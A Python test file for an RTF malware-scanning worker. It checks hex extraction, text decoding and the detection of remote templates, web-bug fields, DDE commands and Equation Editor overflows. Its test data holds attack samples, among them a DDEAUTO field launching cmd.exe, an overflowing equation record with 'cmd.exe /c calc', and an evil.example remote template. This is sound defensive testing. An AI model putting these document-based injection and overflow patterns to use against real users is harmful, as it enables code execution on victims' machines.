r"""RTF as Word reads it: `\u` and `\'` in names, all other hexadecimal, fields, text, what is behind."""

from __future__ import annotations

from typing import Any

import pytest

from plugins._formats.office.equation import overflow
from plugins._formats.office.links import dde, field, is_remote
from plugins._formats.office.rtf import RtfReader
from plugins.workers.rtf import Rtf
from stoq_core.testing import Ran, make, payload, run
from tests.office_files import ole1_object, rtf

MARK = b"a text that nobody may pass over "
HEX = MARK.hex().encode()


def scan(content: bytes, **job: Any) -> Ran:
    """Run the worker."""
    return run(make(Rtf), payload(content, "d.rtf"), **job)


def holds(ran: Ran) -> bool:
    """Whether a child has the text."""
    return any(MARK in child.body.content() for child in ran.children)


def names(ran: Ran) -> set[str]:
    """Findings."""
    return {one.name for one in ran.findings}


@pytest.mark.parametrize(
    "content",
    [
        b"{\\*\\datastore " + HEX + b"}", b"{\\*\\themedata " + HEX[:20] + b"\r\n" + HEX[20:] + b"}",
        b"{\\*\\colorschememapping " + HEX + b"}", b"{\\pict\\pngblip{\\*\\picprop 12}" + HEX + b"}",
        b"{\\*\\unheardof " + HEX + b"}", b"text " + HEX + b" text", HEX[:30] + b"\\par " + HEX[30:],
        b"{\\pict\\bin%d " % len(MARK) + MARK + b"}", b"\\bin%d " % len(MARK) + MARK,
        b"{\\object{\\*\\objdata " + HEX[:10] + b"{\\*\\nest 4142}" + HEX[10:] + b"}}",
        b"{\\object{\\*\\objdata " + HEX[:10] + b"\\pnaiud7 " + HEX[10:] + b"}}",
        b"{\\object{\\*\\objdata " + HEX[:10] + b"{\\*\\nest " + HEX[10:] + b"}}}",
        b"{\\object{\\*\\objdata " + HEX[:10] + b"{\\x}" + HEX[10:20] + b"\\*\\zz " + HEX[20:] + b"}}",
    ],
)  # fmt: skip
def test_every_run_of_hexadecimal(content: bytes) -> None:
    """In any destination or none, joined over words and lines, in each reading of an object's data."""
    assert holds(scan(b"{\\rtf1\\ansi " + content + b"}"))


def test_text_as_word_shows_it() -> None:
    r"""`\'hh`, `\u` with what stands in for it, escaped signs, words between letters."""
    letters = b"".join(b"\\'%02x" % one for one in MARK[:10]) + b"".join(
        b"\\u%d?" % one for one in MARK[10:20]
    )
    assert holds(scan(b"{\\rtf1 " + letters + b"{\\b " + MARK[20:25] + b"}\\i " + MARK[25:] + b"}"))
    assert RtfReader(b"{\\rtf1\\uc2\\u-3913 ab\\{x\\}\\uc0\\u65 B}").read().text == "\uf0b7{x}AB"


@pytest.mark.parametrize(
    ("content", "finding"),
    [
        (b"{\\*\\template \\u104?\\'74tp://evil.example/t.dotm}", "rtf_remote_template"),
        (b"{\\*\\template \\\\\\\\10.0.0.1\\\\s\\\\t.dotm}", "rtf_remote_template"),
        (b"{\\*\\template \\\\\\\\fileserver\\\\s\\\\t.dotm}", ""),
        (b"{\\*\\template file:///C:/a.dotm}", ""),
        (b'{\\field{\\*\\fldinst{\\b INCLUDE}PICTURE "http://e.example/a.png" \\\\d}}', "document_web_bug"),
        (b'{\\field{\\*\\fldinst INCLUDEPICTURE "http://e.example/a.png"}}', ""),
        (b'{\\field{\\*\\fldinst INCLUDETEXT "http://e.example/a.docx"}}', "document_fetches_content"),
        (
            b'{\\field{\\*\\fldinst {\\b DDE}AUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k calc"}}',
            "office_dde_command",
        ),
        (b'{\\field{\\*\\fldinst HYPERLINK "http://e.example/"}}', ""),
    ],
)
def test_where_it_leads(content: bytes, finding: str) -> None:
    """Templates and fields, however they are written; own servers and disks are nobody else's."""
    assert names(scan(b"{\\rtf1" + content + b"}")) == ({finding} if finding else set())


EQUATION = b"\x1c\0\0\0\2\0" + bytes(22) + b"\3\1\1\3\0"


@pytest.mark.parametrize(
    ("records", "overflows"),
    [
        (b"\x0a\x01\x08ZZ" + b"cmd.exe /c calc & AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", True),
        (b"\x0a\x01\x08\x82\x01Times New Roman\0\x02\x83x\0", False),
        (b"\x0a\x01\x05\0\1\1\x40\x02" + b"A" * 30, True), (b"\x0a\x01\x05\0\1\1\x02\x02" + bytes(30), False),
    ],
)  # fmt: skip
def test_equations(records: bytes, overflows: bool) -> None:
    """Overlong names and matrices are exploits; an equation is not."""
    assert bool(overflow(EQUATION + records)) is overflows
    ran = scan(rtf(ole1_object(b"Equation.3", EQUATION + records)))
    assert ("rtf_equation_exploit" in names(ran)) is overflows
    assert "rtf_equation_object" in names(ran)


def test_an_equation_that_is_hidden() -> None:
    """Digits torn apart have one reason."""
    digits = ole1_object(b"Equation.3", EQUATION + b"\x0a\0").hex()
    torn = "{\\x}".join(digits).encode()
    found = names(scan(b"{\\rtf1{\\object\\objemb{\\*\\objdata " + torn + b"}}}"))
    assert {"rtf_equation_exploit", "rtf_obscured_object"} <= found


def test_what_is_around_the_document() -> None:
    """Bytes behind the last brace are a child; so are those in front."""
    ran = scan(b"{\\rtf1 text}" + MARK)
    assert ran.contents["tail"] == MARK
    assert not scan(b"{\\rtf1 text}\r\n\0").children


@pytest.mark.parametrize(
    ("target", "remote"),
    [
        ("http://a.example/", True), ("HTTPS:\\\\a", True), ("\\\\1.2.3.4\\x", True), ("\\\\server\\x", False),
        ("//a.example/x", True), ("\\\\a@SSL\\x", True), ("file://a.example/x", True), ("file:///c:/x", False),
        ("file:///\\\\fs.corp.local\\x", False), ("C:\\x", False), ("Normal.dotm", False), ("%68ttp://a/", True),
        ("mhtml:http://a/!x-usc:http://a/", True), ("file:///C|/x", False), ("file:C:\\x", False),
        ("\\\\?\\C:\\x", False), ("word/x.xml", False),
    ],
)  # fmt: skip
def test_is_remote(target: str, remote: bool) -> None:
    """Web, WebDAV and foreign servers are; disks, one-word servers and local networks are not."""
    assert is_remote(target) is remote


def test_dde() -> None:
    """A link to Excel is everyday; a shell is not, nor is Excel as a name for another program."""
    assert not list(dde("Excel", "book.xls"))
    assert not list(field('DDEAUTO Excel "C:\\\\a.xls" R1C1'))
    assert list(dde("cmd", "/c calc"))
    assert list(dde("MSEXCEL", "\\..\\..\\windows\\system32\\calc"))
